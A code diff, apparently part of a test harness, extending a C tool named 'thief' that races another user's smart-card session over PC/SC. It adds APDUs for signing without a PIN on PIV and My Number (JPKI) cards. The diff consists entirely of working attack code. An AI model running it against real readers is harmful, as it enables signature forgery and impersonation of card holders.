@@ -2,12 +2,14 @@
 /*
  * Another program at the same reader, by direct PC/SC, run as another user.
  *
- *   thief sign rsa|ec [MIN MAX]   tries to sign with key 9A without a PIN, again
- *                                 and again, with pauses of MIN to MAX ms
- *   thief die rsa|ec [MIN MAX]    the same, and each try dies inside its
+ *   thief sign KIND [MIN MAX]     tries to sign with the key for the login
+ *                                 without a PIN, again and again, with pauses
+ *                                 of MIN to MAX ms
+ *   thief die KIND [MIN MAX]      the same, and each try dies inside its
  *                                 transaction
- *   thief verify PIN              a careless program: VERIFY, and away
+ *   thief verify KIND PIN         a careless program: VERIFY, and away
  *
+ * KIND is rsa or ec, of a PIV card's key 9A, or jpki, of a My Number card.
  * sign and die go on until SIGTERM or SIGINT and then print
  * "tries=N signed=N refused=N errors=N": what was signed was stolen.
  */
@@ -31,6 +33,15 @@
 #define BUSY    1
 #define ANSWER  4096
 #define PIN_LEN 8
+#define PIN_MAX 16
+
+/* How a kind of card is robbed. */
+struct kind {
+	const char *name;
+	unsigned (*select)(SCARDHANDLE card);
+	unsigned (*sign)(SCARDHANDLE card);
+	unsigned (*verify)(SCARDHANDLE card, const char *pin);
+};
 
 struct counts {
 	unsigned long tries;
@@ -41,7 +52,7 @@ struct counts {
 
 struct plan {
 	bool dies;
-	bool rsa;
+	const struct kind *kind;
 	long min_ms, max_ms;
 	struct counts *counts; /* shared with the parent */
 };
@@ -89,24 +100,100 @@ select_piv(SCARDHANDLE card)
 }
 
 static unsigned
-sign(SCARDHANDLE card, bool rsa)
+sign_rsa(SCARDHANDLE card)
 {
-	static const unsigned char rsa_head[] = { 0x00, 0x87, 0x07, 0x9a, 0x00,
+	static const unsigned char head[] = { 0x00, 0x87, 0x07, 0x9a, 0x00,
 		0x01, 0x0a, 0x7c, 0x82, 0x01, 0x06, 0x82, 0x00, 0x81, 0x82,
 		0x01, 0x00, 0x00, 0x01 };
-	static const unsigned char ec_head[] = { 0x00, 0x87, 0x11, 0x9a, 0x26,
-		0x7c, 0x24, 0x82, 0x00, 0x81, 0x20 };
-	unsigned char command[sizeof(rsa_head) + RSA_LEN] = { 0 };
+	unsigned char command[sizeof(head) + RSA_LEN];
 
-	if (!rsa) {
-		memcpy(command, ec_head, sizeof(ec_head));
-		return transmit(card, command, sizeof(ec_head) + EC_LEN + 1);
-	}
 	memset(command, 0xff, sizeof(command));
-	memcpy(command, rsa_head, sizeof(rsa_head));
+	memcpy(command, head, sizeof(head));
 	/* The block's first two bytes are in the head; Le is two zeros. */
-	memset(command + sizeof(rsa_head) + RSA_LEN - 2, 0, 2);
-	return transmit(card, command, sizeof(rsa_head) + RSA_LEN);
+	memset(command + sizeof(head) + RSA_LEN - 2, 0, 2);
+	return transmit(card, command, sizeof(command));
+}
+
+static unsigned
+sign_ec(SCARDHANDLE card)
+{
+	static const unsigned char head[] = { 0x00, 0x87, 0x11, 0x9a, 0x26,
+		0x7c, 0x24, 0x82, 0x00, 0x81, 0x20 };
+	unsigned char command[sizeof(head) + EC_LEN + 1] = { 0 };
+
+	memcpy(command, head, sizeof(head));
+	return transmit(card, command, sizeof(command));
+}
+
+static unsigned
+verify_piv(SCARDHANDLE card, const char *pin)
+{
+	unsigned char command[5 + PIN_LEN] = { 0x00, 0x20, 0x00, 0x80, PIN_LEN,
+		0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
+
+	if (strlen(pin) > PIN_LEN)
+		return 0;
+	memcpy(command + 5, pin, strlen(pin));
+	return transmit(card, command, sizeof(command));
+}
+
+static unsigned
+select_jpki(SCARDHANDLE card)
+{
+	static const unsigned char command[] = { 0x00, 0xa4, 0x04, 0x0c, 0x0a,
+		0xd3, 0x92, 0xf0, 0x00, 0x26, 0x01, 0x00, 0x00, 0x00, 0x01 };
+
+	return transmit(card, command, sizeof(command));
+}
+
+static unsigned
+select_file(SCARDHANDLE card, unsigned char file)
+{
+	const unsigned char command[] = { 0x00, 0xa4, 0x02, 0x0c, 0x02, 0x00,
+		file };
+
+	return transmit(card, command, sizeof(command));
+}
+
+static unsigned
+sign_jpki(SCARDHANDLE card)
+{
+	static const unsigned char head[] = { 0x80, 0x2a, 0x00, 0x80, 0x33,
+		0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01,
+		0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20 };
+	unsigned char command[sizeof(head) + EC_LEN + 1] = { 0 };
+	unsigned sw = select_file(card, 0x17);
+
+	memcpy(command, head, sizeof(head));
+	return sw == 0x9000 ? transmit(card, command, sizeof(command)) : sw;
+}
+
+static unsigned
+verify_jpki(SCARDHANDLE card, const char *pin)
+{
+	unsigned char command[5 + PIN_MAX] = { 0x00, 0x20, 0x00, 0x80 };
+	const size_t len = strlen(pin);
+
+	if (len > PIN_MAX || select_file(card, 0x18) != 0x9000)
+		return 0;
+	command[4] = (unsigned char)len;
+	memcpy(command + 5, pin, len);
+	return transmit(card, command, 5 + len);
+}
+
+static const struct kind kinds[] = {
+	{ "rsa", select_piv, sign_rsa, verify_piv },
+	{ "ec", select_piv, sign_ec, verify_piv },
+	{ "jpki", select_jpki, sign_jpki, verify_jpki },
+};
+
+static const struct kind *
+find_kind(const char *name)
+{
+	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
+		if (strcmp(kinds[i].name, name) == 0)
+			return &kinds[i];
+	return NULL;
 }
 
 static bool
@@ -129,13 +216,13 @@ count(struct counts *c, unsigned sw)
 
 /* Who comes after the victim finds the application selected, or selects. */
 static unsigned
-steal(SCARDHANDLE card, bool rsa)
+steal(SCARDHANDLE card, const struct kind *kind)
 {
-	unsigned sw = sign(card, rsa);
+	unsigned sw = kind->sign(card);
 
 	if (sw != 0 && sw != BUSY && !is_signature(sw) &&
-	    select_piv(card) == 0x9000)
-		sw = sign(card, rsa);
+	    kind->select(card) == 0x9000)
+		sw = kind->sign(card);
 	return sw;
 }
 
@@ -154,7 +241,7 @@ try_once(const struct plan *p, SCARDHANDLE card)
 		count(p->counts, 0);
 		return false;
 	}
-	sw = steal(card, p->rsa);
+	sw = steal(card, p->kind);
 	count(p->counts, sw);
 	if (p->dies)
 		_exit(0);
@@ -254,21 +341,15 @@ hammer(struct plan *p)
 }
 
 static int
-verify(const char *pin)
+verify(const struct kind *kind, const char *pin)
 {
-	unsigned char command[5 + PIN_LEN] = { 0x00, 0x20, 0x00, 0x80, PIN_LEN,
-		0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
 	SCARDCONTEXT context;
 	SCARDHANDLE card;
 
-	if (strlen(pin) > PIN_LEN ||
-	    SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) !=
+	if (SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) !=
 	        SCARD_S_SUCCESS ||
-	    !connect_card(&context, &card))
-		return EXIT_FAILURE;
-	memcpy(command + 5, pin, strlen(pin));
-	if (select_piv(card) != 0x9000 ||
-	    transmit(card, command, sizeof(command)) != 0x9000)
+	    !connect_card(&context, &card) || kind->select(card) != 0x9000 ||
+	    kind->verify(card, pin) != 0x9000)
 		return EXIT_FAILURE;
 	(void)SCardDisconnect(card, SCARD_LEAVE_CARD);
 	(void)SCardReleaseContext(context);
@@ -280,18 +361,18 @@ main(int argc, char **argv)
 {
 	struct plan p = { 0 };
 
-	if (argc == 3 && strcmp(argv[1], "verify") == 0)
-		return verify(argv[2]);
-	if ((argc != 3 && argc != 5) ||
-	    (strcmp(argv[1], "sign") != 0 && strcmp(argv[1], "die") != 0) ||
-	    (strcmp(argv[2], "rsa") != 0 && strcmp(argv[2], "ec") != 0)) {
-		fputs("usage: thief sign|die rsa|ec [MIN MAX]\n"
-		      "       thief verify PIN\n",
+	if (argc > 2)
+		p.kind = find_kind(argv[2]);
+	if (p.kind != NULL && argc == 4 && strcmp(argv[1], "verify") == 0)
+		return verify(p.kind, argv[3]);
+	if (p.kind == NULL || (argc != 3 && argc != 5) ||
+	    (strcmp(argv[1], "sign") != 0 && strcmp(argv[1], "die") != 0)) {
+		fputs("usage: thief sign|die rsa|ec|jpki [MIN MAX]\n"
+		      "       thief verify rsa|ec|jpki PIN\n",
 		    stderr);
 		return 2;
 	}
 	p.dies = strcmp(argv[1], "die") == 0;
-	p.rsa = strcmp(argv[2], "rsa") == 0;
 	if (argc == 5) {
 		p.min_ms = atol(argv[3]);
 		p.max_ms = atol(argv[4]);
